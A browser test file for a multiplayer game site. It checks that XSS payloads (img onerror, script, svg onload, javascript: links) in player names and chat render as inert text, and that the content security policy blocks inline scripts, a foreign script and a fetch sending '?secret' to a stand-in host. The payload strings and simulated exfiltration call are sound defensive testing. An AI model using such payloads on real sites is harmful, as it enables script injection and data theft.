"""What somebody writes is only ever text, and a page runs no script but its own."""

from __future__ import annotations

from tests.browser.conftest import Invite
from tests.browser.player import Player

EVIL = "<img src=x onerror=owned=1>"
TALK = "<script>owned=1</script><svg onload=owned=1><a href=javascript:owned=1>x</a>"


def is_whole(player: Player) -> bool:
    """No script of somebody else has run, and none of what was written has become an element."""
    made = player.page.locator("img[src=x], svg[onload], a[href^=javascript], script:not([src])").count()
    return made == 0 and bool(player.page.evaluate("typeof owned === 'undefined'"))


def test_names_and_chat_stay_text_for_everybody(player: Invite) -> None:
    anna, bea, cleo = player(), player(), player()
    anna.open()
    table = anna.fetch(
        "POST", "/api/tables", {"game": "base", "seats": [{"kind": "me"}, {"kind": "open"}], "name": EVIL}
    )
    bea.open()
    invitation = str(table["seats"][1]["invitation"]).removeprefix("/join/")
    bea.fetch("POST", f"/api/invitations/{invitation}", {"name": f"{EVIL} too"})
    for each in (anna, bea, cleo):
        each.open(str(table["watch"]))
        each.page.get_by_text(EVIL).first.wait_for()
        each.page.get_by_role("tab", name="Chat").click()
    bea.page.get_by_label("Say something").fill(TALK)
    bea.click("Send")
    for each in (anna, bea, cleo):
        each.page.get_by_text(TALK).wait_for()
        assert is_whole(each)
    anna.open()
    anna.page.get_by_text(EVIL).first.wait_for()
    assert is_whole(anna)


def test_the_policy_stops_what_the_page_would_not(player: Invite) -> None:
    """Should a hole be found in the page one day: neither markup nor a foreign file can run, and nothing is sent away."""
    anna = player()
    anna.open()
    tried = anna.page.evaluate(
        """async () => {
            const broken = []
            document.addEventListener('securitypolicyviolation', (event) => broken.push(event.effectiveDirective))
            const box = document.body.appendChild(document.createElement('div'))
            box.innerHTML = '<img src="data:," onerror="window.owned = 1"><iframe src="/"></iframe>'
            const inline = document.createElement('script')
            inline.textContent = 'window.owned = 2'
            document.body.append(inline)
            const foreign = document.createElement('script')
            foreign.src = 'https://elsewhere.example/x.js'
            document.body.append(foreign)
            await fetch('https://elsewhere.example/?secret').catch(() => undefined)
            await new Promise((done) => setTimeout(done, 300))
            return [broken, window.owned ?? null]
        }"""
    )
    assert tried[1] is None
    wanted = {"script-src-attr", "script-src-elem", "connect-src", "frame-src"}
    assert wanted <= set(tried[0]), tried
    assert anna.page.evaluate("document.cookie") == "", "no script can read the cookie"
    anna.complaints.clear()  # the browser tells of all this in its console
